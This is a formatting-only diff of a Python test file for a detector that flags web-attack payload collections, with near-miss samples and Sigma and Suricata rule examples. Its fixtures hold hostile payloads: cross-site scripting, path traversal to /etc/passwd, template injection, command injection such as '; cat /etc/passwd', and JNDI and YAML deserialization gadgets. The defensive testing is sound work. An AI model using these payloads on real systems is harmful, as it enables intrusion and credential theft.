@@ -23,7 +23,7 @@ XSS = [
     "<img src=x onerror=alert(1)>",
     "<svg/onload=alert(1)>",
     "<body onload=alert(document.cookie)>",
-    "<a href=\"javascript:alert(1)\">x</a>",
+    '<a href="javascript:alert(1)">x</a>',
     "<details open ontoggle=alert(1)>",
 ]
 JNDI = [
@@ -42,7 +42,14 @@ TRAVERSAL = [
     "..%c0%af..%c0%afetc/passwd",
     "/static/..;/admin",
 ]
-SSTI = ["{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${T(java.lang.Runtime).getRuntime()}"]
+SSTI = [
+    "{{7*7}}",
+    "${7*7}",
+    "<%= 7*7 %>",
+    "#{7*7}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${T(java.lang.Runtime).getRuntime()}",
+]
 CMDI = ["; id", "| whoami", "&& id", "$(whoami)", "name=`id`", "; cat /etc/passwd"]
 
 
@@ -78,11 +85,15 @@ def test_payloads_spread_over_a_page_count_together() -> None:
 
 def test_three_to_five_lines_warn() -> None:
     hits = scan(DETECTOR, fenced("\n".join(XSS[:3])))
-    assert [(h.strong, h.what) for h in hits] == [(False, "cross-site scripting payload collection (3 payload lines, the first here)")]
+    assert [(h.strong, h.what) for h in hits] == [
+        (False, "cross-site scripting payload collection (3 payload lines, the first here)")
+    ]
 
 
 def test_serialized_gadgets_hold_from_two() -> None:
-    one = fenced('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a.example/x","autoCommit":true}')
+    one = fenced(
+        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://a.example/x","autoCommit":true}'
+    )
     two = one + fenced("!!python/object/apply:os.system ['id']")
     assert [h.strong for h in scan(DETECTOR, one)] == [False]
     assert [h.strong for h in scan(DETECTOR, two)] == [True]
@@ -96,26 +107,52 @@ def test_serialized_gadgets_hold_from_two() -> None:
         "An attacker can send `' OR 1=1 --` in the `user` field; the fix uses bound parameters.\n"
         "A second example: `1 AND SLEEP(5)`.\n",
         # Ordinary SQL.
-        fenced("SELECT name, version() FROM pg_settings;\nSELECT COUNT(*) FROM orders WHERE paid = 1;\n"
-               "SELECT a FROM t UNION SELECT b FROM u;", "sql"),
+        fenced(
+            "SELECT name, version() FROM pg_settings;\nSELECT COUNT(*) FROM orders WHERE paid = 1;\n"
+            "SELECT a FROM t UNION SELECT b FROM u;",
+            "sql",
+        ),
         # Ordinary templates and paths.
-        fenced("<p>{{ user.name }}</p>\n<a href=\"../index.html\">up</a>\n<img src=\"logo.png\" onerror=\"fallback()\">", "html"),
+        fenced(
+            '<p>{{ user.name }}</p>\n<a href="../index.html">up</a>\n<img src="logo.png" onerror="fallback()">',
+            "html",
+        ),
         fenced("cd ../../..\nls; ls -la; echo done", "bash"),
         # Deep documentation links, and API prose about an `id` field.
         "\n".join(f"- [Guide {n}](../../../guide/part-{n}.md)" for n in range(8)) + "\n",
-        "\n".join(f"The `id` of item {n} is returned; see `id` and `whoami`." for n in range(8)) + "\n",
+        "\n".join(f"The `id` of item {n} is returned; see `id` and `whoami`." for n in range(8))
+        + "\n",
         # A MySQL function reference, not injected expressions.
-        "| Function | Use |\n|---|---|\n" + "".join(f"| `{f}()` | see manual |\n" for f in
-            ("SLEEP", "BENCHMARK", "LOAD_FILE", "UPDATEXML", "EXTRACTVALUE", "NAME_CONST", "GTID_SUBSET")),
+        "| Function | Use |\n|---|---|\n"
+        + "".join(
+            f"| `{f}()` | see manual |\n"
+            for f in (
+                "SLEEP",
+                "BENCHMARK",
+                "LOAD_FILE",
+                "UPDATEXML",
+                "EXTRACTVALUE",
+                "NAME_CONST",
+                "GTID_SUBSET",
+            )
+        ),
         # Possessives before an en dash in prose.
         "The vendors' -- and the users' -- systems.\nIt's # not a comment.\nThe admins' -- view.\n",
         # The same payload line repeated in the raw text, its entity-decoded view and inline code.
         "Send `&lt;script&gt;alert(1)&lt;/script&gt;` and observe the alert.\n",
         # Detection content quotes payloads to match them: a Sigma rule, a Suricata rule set.
-        fenced("title: Log4Shell exploitation attempt\nlogsource:\n  category: webserver\ndetection:\n"
-               "  keywords:\n" + "".join(f"    - '{p}'\n" for p in JNDI) + "  condition: keywords", "yaml"),
-        fenced("\n".join(f'alert http any any -> any any (msg:"SQLi {n}"; content:"{p}"; sid:{n};)'
-                         for n, p in enumerate(SQLI)), "text"),
+        fenced(
+            "title: Log4Shell exploitation attempt\nlogsource:\n  category: webserver\ndetection:\n"
+            "  keywords:\n" + "".join(f"    - '{p}'\n" for p in JNDI) + "  condition: keywords",
+            "yaml",
+        ),
+        fenced(
+            "\n".join(
+                f'alert http any any -> any any (msg:"SQLi {n}"; content:"{p}"; sid:{n};)'
+                for n, p in enumerate(SQLI)
+            ),
+            "text",
+        ),
     ],
 )
 def test_near_misses(text: str) -> None:
